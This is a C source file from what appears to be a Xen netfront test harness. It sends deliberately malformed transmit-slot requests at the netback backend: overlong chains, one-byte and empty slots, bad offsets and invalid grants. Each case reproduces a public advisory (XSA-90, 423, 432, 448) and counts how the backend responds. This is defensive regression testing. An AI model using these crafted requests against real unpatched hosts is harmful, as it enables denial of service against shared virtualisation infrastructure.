// SPDX-License-Identifier: GPL-2.0-or-later
/* Attacks with the content of transmit slots. See hostile.h. */
#include <string.h>

#include "netback/netfront/hostile.h"

#define ANSWER_MS 5000u
#define DISABLE_MS 10000u
#define NO_GRANT UINT32_MAX

static void put(struct xnf_raw *raw, uint32_t bytes, uint32_t flags)
{
	struct netif_tx_request request = xnf_raw_request(raw, bytes, flags);

	xnf_raw_put(raw, &request);
}

static void put_first(struct xnf_hostile *one, uint32_t bytes, uint32_t flags)
{
	xnf_hostile_frame(one, xnf_raw_memory(&one->raw), 60);
	put(&one->raw, bytes, flags);
}

static void long_chain(struct xnf_hostile *one)
{
	put_first(one, 1000, NETTXF_more_data);
	for (uint32_t i = 0; i < 24; i++)
		put(&one->raw, 10, NETTXF_more_data);
	put(&one->raw, 10, 0);
}

static void no_end(struct xnf_hostile *one)
{
	put_first(one, 1000, NETTXF_more_data);
}

static void cross_page(struct xnf_hostile *one)
{
	struct netif_tx_request request;

	put_first(one, 1000, NETTXF_more_data);
	request = xnf_raw_request(&one->raw, 500, 0);
	request.offset = XNF_PAGE_BYTES - 499;
	xnf_raw_put(&one->raw, &request);
}

static void far_offset(struct xnf_hostile *one)
{
	struct netif_tx_request request = xnf_raw_request(&one->raw, 60, 0);

	request.offset = 0xffff;
	xnf_raw_put(&one->raw, &request);
}

static void put_extra(struct xnf_hostile *one, uint8_t type, uint8_t flags)
{
	struct netif_extra_info extra = {.type = type, .flags = flags};

	xnf_raw_put_extra(&one->raw, &extra);
}

static void odd_extra(struct xnf_hostile *one)
{
	put_first(one, 60, NETTXF_extra_info);
	put_extra(one, 200, 0);
}

static void extra_without_end(struct xnf_hostile *one)
{
	put_first(one, 60, NETTXF_extra_info);
	for (uint32_t i = 0; i < 8; i++)
		put_extra(one, XEN_NETIF_EXTRA_TYPE_GSO,
			  XEN_NETIF_EXTRA_FLAG_MORE);
}

static void gso_of_nothing(struct xnf_hostile *one)
{
	put_first(one, 60, NETTXF_extra_info | NETTXF_csum_blank);
	put_extra(one, XEN_NETIF_EXTRA_TYPE_GSO, 0);
}

/* Each of these disables the vif, as the protocol's broken ones should. */
static int malformed(struct xnf_hostile *one, struct xn_err *err)
{
	static void (*const kind[])(struct xnf_hostile *) = {
		long_chain,	no_end,	   cross_page,
		far_offset,	odd_extra, extra_without_end,
		gso_of_nothing,
	};
	const uint32_t kinds = sizeof(kind) / sizeof(kind[0]);
	uint64_t disabled = 0;

	for (uint32_t i = 0; i < kinds; i++) {
		if (i && xnf_hostile_reconnect(one, err))
			return -1;
		kind[i](one);
		xnf_raw_show(&one->raw);
		disabled += xnf_hostile_wait_disabled(one, DISABLE_MS);
	}
	xnf_report(one, "kinds", kinds);
	xnf_report(one, "kinds_disabled", disabled);
	return 0;
}

/* A probe whose headers lie in slots of one byte. */
static void put_tiny(struct xnf_hostile *one, uint32_t slots, uint32_t last)
{
	struct xnf_raw *raw = &one->raw;
	uint8_t frame[60];
	uint32_t bytes = slots - 1 + last;

	(void)xnf_hostile_probe(one, frame);
	for (uint32_t i = 0; i < slots; i++) {
		uint32_t piece = i + 1 < slots ? 1 : last;

		memcpy(xnf_raw_memory(raw), frame + i, piece);
		put(raw, i ? piece : bytes,
		    i + 1 < slots ? NETTXF_more_data : 0);
	}
}

static int tiny_slots(struct xnf_hostile *one, struct xn_err *err)
{
	uint64_t okay = one->raw.okay, error = one->raw.error;
	uint64_t answered = 0;

	(void)err;
	for (uint64_t i = 0; i < xnf_hostile_count(one); i++) {
		put_tiny(one, 18, 1);  /* 18 bytes in all */
		put_tiny(one, 18, 43); /* whole: it gets an answer */
		xnf_raw_show(&one->raw);
		if (!xnf_raw_wait(&one->raw, ANSWER_MS))
			break;
		answered += xnf_hostile_take(one);
	}
	/* The last answers are on their way yet. */
	answered += xnf_hostile_hello(one, ANSWER_MS);
	xnf_report(one, "slots_okay", one->raw.okay - okay);
	xnf_report(one, "slots_error", one->raw.error - error);
	xnf_report(one, "probes_answered", answered);
	return 0;
}

/* More slots than are promised, and not yet so many that it is a fault. */
static int many_slots(struct xnf_hostile *one, struct xn_err *err)
{
	uint64_t error = one->raw.error;

	(void)err;
	for (uint64_t i = 0; i < xnf_hostile_count(one); i++) {
		put_tiny(one, 19, 1);
		put_tiny(one, 20, 1);
		xnf_raw_show(&one->raw);
		if (!xnf_raw_wait(&one->raw, ANSWER_MS))
			break;
	}
	xnf_report(one, "slots_error", one->raw.error - error);
	return 0;
}

/* Empty slots name a grant that nobody may use: who copies them, fails. */
static void put_empty(struct xnf_raw *raw, uint32_t flags)
{
	struct netif_tx_request request = xnf_raw_request(raw, 0, flags);

	request.gref = NO_GRANT;
	xnf_raw_put(raw, &request);
}

static int zero_slots(struct xnf_hostile *one, struct xn_err *err)
{
	uint64_t okay = one->raw.okay, error = one->raw.error;

	(void)err;
	for (uint64_t i = 0; i < xnf_hostile_count(one); i++) {
		put_empty(&one->raw, 0); /* a frame of no bytes: ERROR */
		put_first(one, 60, NETTXF_more_data);
		put_empty(&one->raw, NETTXF_more_data);
		put_empty(&one->raw, 0); /* three slots: OKAY */
		xnf_raw_show(&one->raw);
		if (!xnf_raw_wait(&one->raw, ANSWER_MS))
			break;
	}
	xnf_report(one, "slots_okay", one->raw.okay - okay);
	xnf_report(one, "slots_error", one->raw.error - error);
	return 0;
}

/* Fragments of more than the whole; the whole of fewer than a header. */
static int short_total(struct xnf_hostile *one, struct xn_err *err)
{
	uint64_t error = one->raw.error;

	(void)err;
	for (uint64_t i = 0; i < xnf_hostile_count(one); i++) {
		put_first(one, 100, NETTXF_more_data);
		put(&one->raw, 101, 0);
		put_first(one, 13, 0);
		xnf_raw_show(&one->raw);
		if (!xnf_raw_wait(&one->raw, ANSWER_MS))
			break;
	}
	xnf_report(one, "slots_error", one->raw.error - error);
	return 0;
}

const struct xnf_attack xnf_attacks_slots[] = {
	{.name = "malformed",
	 .advisory = "XSA-90",
	 .what = "seven packets that only a broken frontend sends, each of "
		 "which disables the vif",
	 .run = malformed},
	{.name = "tiny-slots",
	 .advisory = "XSA-423",
	 .what = "headers in 18 slots of a byte each",
	 .run = tiny_slots,
	 .count = 50},
	{.name = "many-slots",
	 .advisory = "XSA-432",
	 .what = "19 and 20 slots with a tiny total",
	 .run = many_slots,
	 .count = 50},
	{.name = "zero-slots",
	 .advisory = "XSA-448",
	 .what = "slots of no bytes, with a grant that does not exist",
	 .run = zero_slots,
	 .count = 50},
	{.name = "short-total",
	 .advisory = "XSA-432",
	 .what = "slots with more bytes than the packet, packets below 14",
	 .run = short_total,
	 .count = 50},
	{.name = NULL},
};
